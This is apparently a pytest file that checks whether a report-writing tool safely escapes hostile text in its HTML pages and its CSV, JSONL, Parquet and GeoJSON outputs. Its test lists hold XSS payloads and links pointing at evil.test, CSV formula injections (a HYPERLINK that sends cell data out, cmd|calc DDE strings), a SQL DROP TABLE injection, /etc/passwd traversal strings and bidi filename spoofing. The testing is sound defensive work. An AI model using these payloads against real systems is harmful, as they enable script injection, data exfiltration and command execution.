"""Hostile text: the same strings at every writer. None becomes markup, a script, a link, a style or a formula; each can be read again."""

import csv
import json
import re
import unicodedata
from collections import Counter
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import geopandas as gpd
import pandas as pd
import pytest
from shapely.geometry import Point

from analystkit.reports import reports
from analystkit.tables import build_table
from analystkit.writing.briefing import Briefing, write_briefing
from analystkit.writing.files import guard_formula
from analystkit.writing.formats import write_table

MARKUP = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<!--<script>",
    "--><img src=x onerror=alert(1)>",
    "<img src='http://evil.test/track.png'>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "<a href=javascript:alert(1)>click</a>",
    '<a href="https://evil.test">news</a>',
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    '<span style="background:url(http://evil.test/x)">x</span>',
    '<b style="mask:url(http://evil.test/x)">x</b>',
    "<style>@import url(http://evil.test/x.css);</style>",
    "</style><style>*{background:url(//evil.test)}",
    "<iframe src=https://evil.test></iframe>",
    "<object data=https://evil.test></object><embed src=x>",
    "<form action=https://evil.test><input name=x>",
    '<meta http-equiv="refresh" content="0;url=https://evil.test">',
    "<base href=https://evil.test/>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "</title></head></body></html><h1>other page</h1>",
    "]]><![CDATA[<b>",
    "<?php echo 1 ?>",
    "<b>bold <i>unclosed",
    "<td></tr></table>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt; &#60;b&#62; &nbsp; &notanentity;",
    "javascript:alert(1)",
    "https://evil.test/a?b=<c>&d='e'",
]
PROGRAMS = [
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "$title $body $$ ${policy}",
    "%s %(x)s %n {0} {title}",
    "%{x} %{hovertext} <extra></extra>",
    r"$\frac{1}{0}$ costs $5",
    "one $ alone",
    r"$\alpha_{x^2",
    r"\input{/etc/passwd} \\ \n \u003cb\u003e",
    "'; DROP TABLE events; --",
    "../../etc/passwd\\..\\x",
]
FORMULAS = [
    '=HYPERLINK("http://evil.test?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '"=1+1"',
    "'=1+1",
    "＝1+1",
    "\u200b=1+1",
    "\u00a0@SUM(1)",
    'x",=1+1,"y',
]
CONTROLS = [
    "NUL\x00 in the middle",
    "red \x1b[31m alert \x1b]0;title\x07",
    "C1 \x9b31m \x85 next",
    "backspace \x08\x08\x08 bell \x07 delete \x7f",
    "override \u202egnp.exe\u202c and \u2066isolate\u2069",
    "line\u2028separator\u2029and\r\nreturn\rlone",
    "\ufeffmark \u200bzero\u200d width \u00ad soft",
    "ZALGO H̷̡̢̛̗̘̙̜̝̞̟̠̣̤̥̦̩̪̫̬̭̮̯̰̱̲̳̹̺̻̼͇͈͉͍͎̀́̂̃̄̅̆",
    "عاجل: غارة على دوما",
    "🔥💥 \U0010ffff \ufffe",
    "W" * 3000,
    "word " * 200,
]
HOSTILE = [*MARKUP, *PROGRAMS, *FORMULAS, *CONTROLS]
HALF_PAIRS = ["\ud83d alone", "two \udc00\ud800 turned round"]
FIELDS = ("title", "source", "url", "place", "actor", "target", "date_text", "according_to", "quote")
PAGES = ("index.html", "map.html", "frequency.html")
# A tag or a comment in a plotly text, as the page's script has it: "\u003cbr\u003e"
PLOTLY_TAG = re.compile(r"\\u003c\s*([/!?]?[a-zA-Z\[-]*)")
# The key by which plotly groups entries of a legend, '"legendgroup":"air_strike"', and what the panel of a map shows as text alone
NEVER_SHOWN = re.compile(r'"legendgroup":"(?:[^"\\]|\\.)*"|<script type="application/json" id="events">.*?</script>', re.DOTALL)
CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def make_articles(texts: list[str]) -> pd.DataFrame:
    rows = []
    for number, text in enumerate(texts):
        row = {"article_id": f"a{number}", "published_basis": "given", "published": "2018-09-20", "file": f"{number}/{text[:50]}"}
        rows.append({**row, "source": text, "title": text, "url": text, "text": text, "row": number})
    return build_table(rows, "articles")


def make_reports(texts: list[str]) -> gpd.GeoDataFrame:
    """Make a report of each text, too far from each other in space and time to be one event; every third is known to an area alone."""
    rows: list[dict[str, Any]] = []
    for number, text in enumerate(texts):
        row = {
            "report_id": f"r{number}",
            "article_id": f"a{number}",
            "event_type": text if number == 0 else "air_strike",
            "status": "alleged" if number % 5 == 0 else "reported",
            "aggregate": False,
            "date_precision": "day",
            "date_basis": "explicit",
            "place_id": f"ak:{number}",
            "country": "SY",
            "place_precision": "region" if number % 3 == 0 else "settlement",
            "place_basis": "stated",
            "uncertainty_km": 5.0,
            "killed_low": number,
            "quote_start": 0,
            "quote_end": len(text),
            "passages": f"0-{len(text)}",
            "reviewed": False,
            "geometry": Point(36 + number / 2, 33 + number % 4),
        }
        if number:
            row["date_start"] = row["date_end"] = pd.Timestamp("2018-01-01") + pd.Timedelta(days=4 * number)
        else:
            row["date_precision"] = "unknown"
        rows.append({**row, **dict.fromkeys(set(FIELDS) - {"title", "source", "url"}, text)})
    return build_table(rows, "reports")


def brief(texts: list[str], out: Path) -> Briefing:
    """Write a briefing of articles, of which each is one of the texts, everywhere."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(
            reports,
            "extract",
            lambda articles, **_: reports.Extraction(build_table([], "places"), make_reports(texts), build_table([], "left_out")),
        )
        return write_briefing(make_articles(texts), out, title=texts[0], note=texts[1])


class Structure(HTMLParser):
    """The elements of a page with their attributes, and its text."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, tuple[tuple[str, str | None], ...]]] = []
        self.texts: list[str] = []
        self.others: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, tuple(attrs)))

    def handle_data(self, data: str) -> None:
        self.texts.append(data)

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    def handle_pi(self, data: str) -> None:
        self.others.append(data)

    def count(self) -> Counter[tuple[str, ...]]:
        return Counter((tag, *(name for name, _ in attributes)) for tag, attributes in self.elements)


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> Briefing:
    return brief(HOSTILE, tmp_path_factory.mktemp("hostile"))


@pytest.fixture(scope="module")
def harmless(tmp_path_factory: pytest.TempPathFactory) -> Briefing:
    """Write the same briefing of words that could harm nobody."""
    return brief([f"Calm day number {number}" for number in range(len(HOSTILE))], tmp_path_factory.mktemp("harmless"))


def test_there_are_enough_of_them_and_each_is_an_event(written: Briefing) -> None:
    assert len(set(HOSTILE)) == len(HOSTILE) >= 50
    assert len(written.events) == len(HOSTILE)


@pytest.mark.parametrize("name", PAGES)
def test_a_page_has_the_markup_of_a_harmless_one(name: str, written: Briefing, harmless: Briefing) -> None:
    page = Structure(written.page.with_name(name).read_text(encoding="utf-8"))
    expected = Structure(harmless.page.with_name(name).read_text(encoding="utf-8"))
    assert page.count() == expected.count()
    assert page.others == expected.others == []


@pytest.mark.parametrize("name", PAGES)
def test_a_page_leads_nowhere_but_to_our_files(name: str, written: Briefing) -> None:
    page = written.page.with_name(name).read_text(encoding="utf-8")
    values = {
        value or ""
        for _, attributes in Structure(page).elements
        for attribute, value in attributes
        if attribute in ("href", "src", "action", "srcset", "data", "style", "formaction", "background")
    }
    ours = {path.name for path in written.page.parent.iterdir()}
    assert {value for value in values - ours if "url(" in value or ":/" in value or not re.fullmatch(r"[\w %;:-]*", value)} == set()
    assert not [name for _, attributes in Structure(page).elements for name, _ in attributes if name.startswith("on")]


@pytest.mark.parametrize("name", PAGES)
def test_texts_in_a_figure_hold_no_markup_but_its_own(name: str, written: Briefing, harmless: Briefing) -> None:
    tags, expected = (
        set(PLOTLY_TAG.findall(NEVER_SHOWN.sub("", briefing.page.with_name(name).read_text(encoding="utf-8"))))
        for briefing in (written, harmless)
    )
    assert tags <= expected
    assert expected <= {"", "b", "/b", "br", "i", "/i", "extra", "/extra"}


def test_no_control_character_reaches_a_page(written: Briefing) -> None:
    for name in PAGES:
        _, _, body = written.page.with_name(name).read_text(encoding="utf-8").partition("</head>")
        assert CONTROL.findall(body) == [], name


def test_the_page_shows_each_text_as_it_was(written: Briefing) -> None:
    def flatten(text: str) -> str:
        return "".join(c for c in text if not c.isspace() and unicodedata.category(c) not in ("Cc", "Cf", "Cs", "Cn") and c != "\ufffd")

    shown = flatten("".join(Structure(written.page.read_text(encoding="utf-8")).texts))
    assert [text for text in HOSTILE if flatten(text) not in shown] == []


def test_pictures_are_drawn(written: Briefing) -> None:
    for name in ("map.png", "frequency.png"):
        assert written.page.with_name(name).read_bytes().startswith(b"\x89PNG")


def make_table() -> gpd.GeoDataFrame:
    """Make a table whose text columns hold each string, half pairs included, as a column of the caller's own may."""
    table = make_reports(["text"] * (len(HOSTILE) + len(HALF_PAIRS)))
    return table.assign(quote=pd.Series(HOSTILE + HALF_PAIRS, dtype="object"), place=pd.Series(HALF_PAIRS + HOSTILE, dtype="object"))


def drop_half_pairs(text: str) -> str:
    return re.sub("[\ud800-\udfff]", "\ufffd", text)


def drop_controls(text: str) -> str:
    return re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ufffe\uffff]", "\ufffd", drop_half_pairs(text))


def test_no_cell_of_a_csv_is_a_formula_and_each_can_be_read_again(tmp_path: Path) -> None:
    table = make_table()
    path = write_table(table, tmp_path / "reports.csv")
    assert CONTROL.sub("", drop_bidi(path.read_bytes().decode("utf-8"))) == drop_bidi(path.read_bytes().decode("utf-8"))
    with path.open(encoding="utf-8", newline="") as lines:
        rows = list(csv.DictReader(lines))
    assert len(rows) == len(table)
    for row in rows:
        for name, cell in row.items():
            first = unicodedata.normalize("NFKC", cell.lstrip("\"'“”‘’\u200b\ufeff\ufffd \t\r\n\u00a0"))[:1]
            assert first not in tuple("=+-@") or cell.startswith("'") or table[name].dtype != "object", (name, cell)
            assert not cell.startswith(("\t", "\r", "\n"))
    undone = [cell[1:] if cell.startswith("'") and guard_formula(cell[1:]) == cell else cell for cell in (row["quote"] for row in rows)]
    assert undone == [re.sub(r"\r(?!\n)", "\n", drop_controls(text)) for text in table["quote"]]


def drop_bidi(text: str) -> str:
    """Drop what stays in files: text in two directions is kept as it was written."""
    return re.sub("[\u202a-\u202e\u2066-\u2069]", "", text)


def test_json_lines_hold_each_text_as_it_was_in_one_line(tmp_path: Path) -> None:
    table = make_table()
    written = write_table(table, tmp_path / "reports.jsonl").read_bytes().decode("utf-8")
    assert [json.loads(line)["quote"] for line in written.splitlines()] == [drop_half_pairs(text) for text in table["quote"]]
    assert CONTROL.findall(drop_bidi(written)) == []


def test_parquet_holds_each_text_as_it_was(tmp_path: Path) -> None:
    table = make_table()
    again = gpd.read_parquet(write_table(table, tmp_path / "reports.parquet"))
    assert again["quote"].tolist() == [drop_half_pairs(text) for text in table["quote"]]


@pytest.mark.parametrize("suffix", [".geojson", ".gpkg"])
def test_geographic_files_hold_each_text_less_its_control_characters(suffix: str, tmp_path: Path) -> None:
    table = make_table()
    again = gpd.read_file(write_table(table, tmp_path / f"reports{suffix}"))
    assert again["quote"].tolist() == [drop_controls(text) for text in table["quote"]]
    assert again["place"].tolist() == [drop_controls(text) for text in table["place"]]
